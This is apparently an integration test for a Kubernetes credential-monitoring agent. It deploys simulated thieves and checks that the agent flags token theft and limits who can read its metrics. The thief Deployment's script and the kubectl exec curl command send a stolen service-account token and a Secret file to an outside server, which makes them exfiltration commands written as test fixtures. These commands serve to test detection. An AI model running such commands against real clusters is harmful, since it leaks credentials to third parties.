//! The chart on a real Kubernetes: a token that its own pod uses, and another pod steals.

use anyhow::{Context as _, Result, ensure};
use lab::{
    cluster::{API, NODE, NODE_NAME, TestCluster},
    wait_for,
    web::WebServer,
};
use serde_json::Value;
use std::{io::Write as _, path::Path, time::Duration};

const IMAGE: &str = "lab.example/keytrail:test";
const CURL: &str = "lab.example/curl:1";
const LIMIT: Duration = Duration::from_secs(60);

/// Queries the node's agent the way its user does.
fn ask(cluster: &TestCluster, arguments: &[&str]) -> Result<Value> {
    let exec = [
        "exec",
        "--namespace=keytrail",
        "daemonset/keytrail",
        "--",
        "keytrail",
    ];
    let text = cluster.kubectl(&[&exec, arguments, &["--output", "json"]].concat())?;
    serde_json::from_str(&text).with_context(|| text)
}

/// The hop by which a pod has presented a credential; `None` until it is known.
fn presented(
    cluster: &TestCluster,
    pod: &str,
    is_it: impl Fn(&Value) -> bool,
) -> Result<Option<Value>> {
    let known = ask(cluster, &["inventory"])?;
    let known = known["credentials"].as_array().cloned().unwrap_or_default();
    let found = known.iter().find(|item| is_it(item));
    let Some(id) = found.and_then(|item| item["id"].as_str()) else {
        return Ok(None);
    };
    let answer = ask(cluster, &["query", "where", id])?;
    let hops = answer["hops"].as_array().cloned().unwrap_or_default();
    Ok(hops
        .into_iter()
        .find(|hop| hop["workload"]["pod"] == pod && hop["evidence"] == "presented"))
}

fn findings(cluster: &TestCluster) -> Result<Vec<Value>> {
    let answer = ask(cluster, &["findings"])?;
    let list = answer.get("findings").unwrap_or(&answer).as_array();
    Ok(list.cloned().unwrap_or_default())
}

/// A Deployment whose pod uses its token at the API, and leaves a copy where others can read it.
fn owner(shared: &Path) -> String {
    let shared = shared.display();
    format!(
        r#"apiVersion: v1
kind: Namespace
metadata: {{ name: payments }}
---
apiVersion: v1
kind: ServiceAccount
metadata: {{ name: api, namespace: payments }}
---
apiVersion: apps/v1
kind: Deployment
metadata: {{ name: api, namespace: payments }}
spec:
  selector: {{ matchLabels: {{ app: api }} }}
  template:
    metadata: {{ labels: {{ app: api }} }}
    spec:
      serviceAccountName: api
      terminationGracePeriodSeconds: 1
      volumes:
        - name: token
          projected: {{ sources: [ {{ serviceAccountToken: {{ path: token, expirationSeconds: 3600 }} }} ] }}
        - name: shared
          hostPath: {{ path: {shared} }}
      containers:
        - name: api
          image: {CURL}
          command: [/bin/sh, -c]
          args:
            - |
              cp /run/secrets/api/token /shared/token
              while :; do
                curl -sk -o /dev/null -H "Authorization: Bearer $(cat /run/secrets/api/token)" https://{API}/api/v1/namespaces/payments/pods
                sleep 1
              done
          volumeMounts:
            - {{ name: token, mountPath: /run/secrets/api }}
            - {{ name: shared, mountPath: /shared }}
"#
    )
}

/// A Deployment whose pod presents that copy elsewhere.
fn thief_of(outside: &WebServer, shared: &Path) -> String {
    let shared = shared.display();
    let leak = outside.address;
    format!(
        r#"apiVersion: apps/v1
kind: Deployment
metadata: {{ name: thief, namespace: default }}
spec:
  selector: {{ matchLabels: {{ app: thief }} }}
  template:
    metadata: {{ labels: {{ app: thief }} }}
    spec:
      terminationGracePeriodSeconds: 1
      volumes:
        - name: shared
          hostPath: {{ path: {shared} }}
      containers:
        - name: shell
          image: {CURL}
          command: [/bin/sh, -c]
          args:
            - |
              until test -s /shared/token; do sleep 1; done
              curl -sk -o /dev/null -H "Authorization: Bearer $(cat /shared/token)" https://{leak}/
              while :; do sleep 100; done
          volumeMounts:
            - {{ name: shared, mountPath: /shared }}
"#
    )
}

fn policy(name: &str, more: &str) -> String {
    format!(
        "apiVersion: keytrail.dev/v1alpha1
kind: CredentialPolicy
metadata: {{ name: {name} }}
spec:
  credentials:
    - name: {name}-token
      match: {{ file: /run/secrets/{name}/token }}
      {more}
"
    )
}

#[test]
fn the_chart_and_a_stolen_token() -> Result<()> {
    ensure!(lab::is_root(), "the scenarios need root");
    let Some(cluster) = TestCluster::start()? else {
        return Ok(());
    };
    the_token_is_found(&cluster).with_context(|| {
        let said = cluster.kubectl(&["logs", "--namespace=keytrail", "daemonset/keytrail"]);
        format!(
            "the agent: {}",
            said.unwrap_or_else(|error| error.to_string())
        )
    })
}

/// A pod with a Secret at a place that reveals nothing, created before there is any agent.
const ELDER: &str = r#"apiVersion: v1
kind: Namespace
metadata: { name: elder }
---
apiVersion: v1
kind: Secret
metadata: { name: app, namespace: elder }
stringData: { blob: FAKE-older-than-the-agent-0002 }
---
apiVersion: apps/v1
kind: Deployment
metadata: { name: vault, namespace: elder }
spec:
  selector: { matchLabels: { app: vault } }
  template:
    metadata: { labels: { app: vault } }
    spec:
      terminationGracePeriodSeconds: 1
      volumes: [ { name: app, secret: { secretName: app } } ]
      containers:
        - name: vault
          image: lab.example/curl:1
          command: [/bin/sh, -c, "while :; do sleep 100; done"]
          volumeMounts: [ { name: app, mountPath: /etc/app } ]
"#;

/// A theft by `kubectl exec` from a pod that is older than the agent.
fn the_elder_is_robbed(cluster: &TestCluster, outside: &WebServer) -> Result<()> {
    let pod = cluster.await_pod("elder", "app=vault")?;
    let steal = format!(
        "curl -sk -o /dev/null -H \"Authorization: Bearer $(cat /etc/app/blob)\" https://{}/",
        outside.address
    );
    let seen = wait_for("what a pod older than the agent lost", LIMIT, || {
        cluster.kubectl(&[
            "exec",
            "--namespace=elder",
            &pod,
            "--",
            "/bin/sh",
            "-c",
            &steal,
        ])?;
        presented(cluster, &pod, |item| {
            item["sources"].as_array().is_some_and(|sources| {
                sources.iter().any(|source| {
                    source["source"] == "file"
                        && source["place"]
                            .as_str()
                            .is_some_and(|place| place.ends_with("/blob"))
                })
            })
        })
    })?;
    println!(
        "a Secret older than the agent: presented by {} at {}",
        seen["workload"]["name"], seen["destination"]["address"]
    );
    assert_eq!(seen["destination"]["address"], NODE, "{seen:#}");
    Ok(())
}

/// Accounts of the cluster: one that may scrape, and one that may not.
const ACCOUNTS: &str = "apiVersion: v1
kind: Namespace
metadata: { name: monitoring }
---
apiVersion: v1
kind: ServiceAccount
metadata: { name: prometheus, namespace: monitoring }
---
apiVersion: v1
kind: ServiceAccount
metadata: { name: other, namespace: monitoring }
";

/// A token of an account in `monitoring`.
fn token_of(cluster: &TestCluster, account: &str) -> Result<String> {
    let mut request = tempfile::NamedTempFile::new()?;
    request.write_all(
        br#"{"apiVersion":"authentication.k8s.io/v1","kind":"TokenRequest","spec":{}}"#,
    )?;
    let answer = cluster.kubectl(&[
        "create",
        "--raw",
        &format!("/api/v1/namespaces/monitoring/serviceaccounts/{account}/token"),
        "--filename",
        &request.path().display().to_string(),
    ])?;
    let answer: Value = serde_json::from_str(&answer)?;
    Ok(answer["status"]["token"]
        .as_str()
        .context("a token")?
        .to_owned())
}

/// Metrics of the pod as shipped: for an account that may scrape, and for nobody else.
fn only_prometheus_scrapes(cluster: &TestCluster) -> Result<()> {
    cluster.apply(ACCOUNTS)?;
    let pods = cluster.get(&["pods", "--namespace=keytrail"])?;
    let address = pods["items"][0]["status"]["podIP"]
        .as_str()
        .context("an address")?;
    let status = |path: &str, token: Option<&str>| -> Result<String> {
        let url = format!("https://{address}:9478{path}");
        let mut arguments = vec![
            "-sk",
            "-m",
            "10",
            "-o",
            "/dev/null",
            "-w",
            "%{http_code}",
            &url,
        ];
        let header = token.map(|token| format!("authorization: Bearer {token}"));
        if let Some(header) = &header {
            arguments.extend(["-H", header]);
        }
        cluster.run("curl", &arguments)
    };
    let (prometheus, other) = (
        token_of(cluster, "prometheus")?,
        token_of(cluster, "other")?,
    );
    wait_for("the account of Prometheus may scrape", LIMIT, || {
        Ok((status("/metrics", Some(&prometheus))? == "200").then_some(()))
    })?;
    assert_eq!(status("/metrics", Some(&other))?, "401", "another account");
    assert_eq!(status("/metrics", Some("FAKE-no-token-at-all"))?, "401");
    assert_eq!(status("/metrics", None)?, "401");
    assert_eq!(status("/healthz", None)?, "200", "as the kubelet asks");
    let link = cluster.kubectl(&[
        "exec",
        "--namespace=keytrail",
        "daemonset/keytrail",
        "--",
        "keytrail",
        "page",
    ])?;
    ensure!(link.starts_with("http://127.0.0.1:9477/#code="), "{link}");
    let policy = cluster.get(&["networkpolicies", "keytrail", "--namespace=keytrail"])?;
    assert_eq!(policy["spec"]["ingress"][0]["ports"][0]["port"], "metrics");
    Ok(())
}

fn the_token_is_found(cluster: &TestCluster) -> Result<()> {
    let containerd = cluster.containerd.as_ref().context("containerd runs")?;
    // An agent on the host that runs while images are unpacked and pods start and stop.
    let directory = tempfile::tempdir()?;
    let mut beside = lab::agent::Agent::start(directory.path(), &[])?;
    containerd.import(IMAGE, &[&lab::agent::binary()?])?;
    containerd.import(CURL, &[Path::new("/usr/bin/curl")])?;
    cluster.apply(ELDER)?;
    cluster.await_pod("elder", "app=vault")?;
    let chart = format!("{}/../deploy/helm/keytrail", env!("CARGO_MANIFEST_DIR"));
    let (repository, tag) = IMAGE.split_once(':').context("an image")?;
    cluster.run(
        "helm",
        &[
            "install",
            "keytrail",
            &chart,
            "--namespace=keytrail",
            "--create-namespace",
            "--set",
            // A custom state directory: `keytrail` in the pod finds it.
            &format!(
                "image.repository={repository},image.tag={tag},stateDir={},metrics.readers[0].name=prometheus,metrics.readers[0].namespace=monitoring",
                directory.path().join("of-the-chart").display()
            ),
        ],
    )?;
    cluster.await_pod("keytrail", "app.kubernetes.io/name=keytrail")?;
    only_prometheus_scrapes(cluster)?;
    cluster.apply(&policy(
        "api",
        "readers: [ { namespace: payments, workload: api, service_account: api } ]",
    ))?;
    cluster.apply(&policy("wrong", "readerz: []"))?;
    let shown = wait_for("the policies have a status", LIMIT, || {
        let shown = cluster.kubectl(&["get", "credentialpolicies"])?;
        let is = |name: &str, accepted: &str| {
            shown.lines().any(|line| {
                let mut words = line.split_whitespace();
                words.next() == Some(name) && words.next() == Some(accepted)
            })
        };
        Ok((is("api", "True") && is("wrong", "False")).then_some(shown))
    })?;
    ensure!(shown.contains("readerz"), "{shown}");
    println!("{shown}");

    let outside = WebServer::start(NODE)?;
    the_elder_is_robbed(cluster, &outside)?;
    let doctor = cluster.kubectl(&[
        "exec",
        "--namespace=keytrail",
        "daemonset/keytrail",
        "--",
        "keytrail",
        "doctor",
    ])?;
    ensure!(doctor.contains("self-test"), "{doctor}");
    let shared = tempfile::tempdir()?;
    cluster.apply(&owner(shared.path()))?;
    let api = cluster.await_pod("payments", "app=api")?;
    // Presented at the API, by name.
    let own = wait_for("the token's own use is seen", LIMIT, || {
        presented(cluster, &api, |item| {
            item["label"] == "system:serviceaccount:payments:api"
        })
    })?;
    assert_eq!(
        own["destination"]["object"], "kubernetes.default.svc",
        "{own:#}"
    );
    cluster.apply(&thief_of(&outside, shared.path()))?;
    let thief = cluster.await_pod("default", "app=thief")?;
    let theft = wait_for("the theft is found", LIMIT, || {
        let is_theft = |finding: &Value| {
            finding["rule"] == "unexpected-hop"
                && finding["workload"]["pod"] == thief.as_str()
                // Until the API has told whose pod it is, the name is incomplete.
                && finding["workload"]["partial"] != true
        };
        Ok(findings(cluster)?.into_iter().find(is_theft))
    })?;
    // The token itself was seen in use; both workloads are named completely.
    assert_eq!(theft["evidence"], "presented", "{theft:#}");
    assert_eq!(theft["severity"], "critical");
    assert_eq!(theft["destination"]["address"], NODE);
    assert_eq!(
        theft["destination"]["object"],
        format!("{NODE_NAME}.node").as_str(),
        "{theft:#}"
    );
    for (field, value) in [
        ("kind", "deployment"),
        ("namespace", "default"),
        ("name", "thief"),
        ("container", "shell"),
        ("service_account", "default"),
    ] {
        assert_eq!(theft["workload"][field], value, "{theft:#}");
    }
    for (field, value) in [
        ("kind", "deployment"),
        ("namespace", "payments"),
        ("workload", "api"),
        ("pod", api.as_str()),
        ("service_account", "api"),
    ] {
        assert_eq!(theft["credential"]["issued_to"][field], value, "{theft:#}");
    }
    let summary = theft["summary"].as_str().unwrap_or_default();
    let whose = format!("payments/api (deployment, pod {api}, service account api)");
    ensure!(summary.contains(&whose), "{summary}");
    // The owner's use of it is not a finding.
    let found = findings(cluster)?;
    ensure!(
        !found.iter().any(|finding| {
            finding["workload"]["pod"] == api.as_str()
                && (finding["rule"] == "unexpected-hop" || finding["rule"] == "unexpected-reader")
        }),
        "{found:#?}"
    );
    ensure!(beside.get("/healthz")?.0 == 200, "{}", beside.log_text());
    ensure!(beside.stop()?.success());
    let nodes = cluster.get(&["nodes", NODE_NAME])?;
    println!(
        "Kubernetes {}: {summary}",
        nodes["status"]["nodeInfo"]["kubeletVersion"]
    );
    Ok(())
}
